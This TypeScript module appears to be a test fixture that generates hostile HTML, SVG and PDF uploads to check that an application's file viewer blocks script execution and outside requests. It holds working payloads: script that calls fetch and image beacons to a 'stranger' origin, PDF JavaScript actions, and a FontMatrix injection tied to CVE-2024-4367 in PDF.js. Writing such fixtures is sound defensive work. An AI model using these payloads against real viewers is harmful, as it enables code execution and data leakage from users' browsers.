/** A file that tries to run something and to reach `stranger`, as somebody could hand it in as evidence. */
export interface HostileFile {
  readonly name: string
  readonly mimeType: string
  readonly buffer: Buffer
}

/** What would show that something ran: a word in the window, a request, a dialog. */
const script = (stranger: string) =>
  `window.ran = true; fetch('${stranger}/fetch'); new Image().src = '${stranger}/image'; parent.postMessage('ran', '*'); alert(1)`

const html = (stranger: string) => `<!doctype html><title>Tickets</title>
<script>${script(stranger)}</script>
<img src="${stranger}/img" onerror="${script(stranger)}">
<link rel="stylesheet" href="${stranger}/style"><iframe src="${stranger}/frame"></iframe>
<meta http-equiv="refresh" content="0;url=${stranger}/refresh">
<form action="${stranger}/form" method="post"><button autofocus>Go</button></form>`

const svg = (stranger: string) => `<svg xmlns="http://www.w3.org/2000/svg"
 xmlns:xlink="http://www.w3.org/1999/xlink" onload="${script(stranger)}">
<script>${script(stranger)}</script>
<image href="${stranger}/image" width="9" height="9"/><use xlink:href="${stranger}/use#a"/>
<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${stranger}/frame"/></foreignObject></svg>`

/** A PDF whose catalogue, page and link each run or open something. */
function pdf(stranger: string): string {
  const js = `(app.alert\\(1\\); this.submitForm\\('${stranger}/submit'\\); app.launchURL\\('${stranger}/launch'\\))`
  const words = 'BT /F1 24 Tf 40 100 Td (Tickets) Tj ET'
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS ${js} >> /Names << /JavaScript << /Names [(a) 6 0 R] >> >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >>
 /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /URI /URI (${stranger}/uri) >> >>]
 /AA << /O << /S /URI /URI (${stranger}/page) >> >> >>`,
    `<< /Length ${words.length} >>\nstream\n${words}\nendstream`,
    // CVE-2024-4367: a font matrix that was compiled to a function.
    `<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 2 3 4 5 (1\\); ${script(stranger).replaceAll(/[()]/g, String.raw`\$&`)}; \\()] >>`,
    `<< /S /JavaScript /JS ${js} >>`,
  ]
  let text = '%PDF-1.7\n'
  const offsets = objects.map((object, n) => {
    const at = text.length
    text += `${n + 1} 0 obj\n${object}\nendobj\n`
    return String(at).padStart(10, '0')
  })
  const rows = offsets.map(at => `${at} 00000 n \n`).join('')
  return `${text}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${text.length}\n%%EOF\n`
}

/** The three, each trying to reach `stranger`, an origin. */
export const hostileFiles = (stranger: string): readonly HostileFile[] => [
  { name: 'tickets.html', mimeType: 'text/html', buffer: Buffer.from(html(stranger)) },
  { name: 'tickets.svg', mimeType: 'image/svg+xml', buffer: Buffer.from(svg(stranger)) },
  { name: 'tickets.pdf', mimeType: 'application/pdf', buffer: Buffer.from(pdf(stranger)) },
]
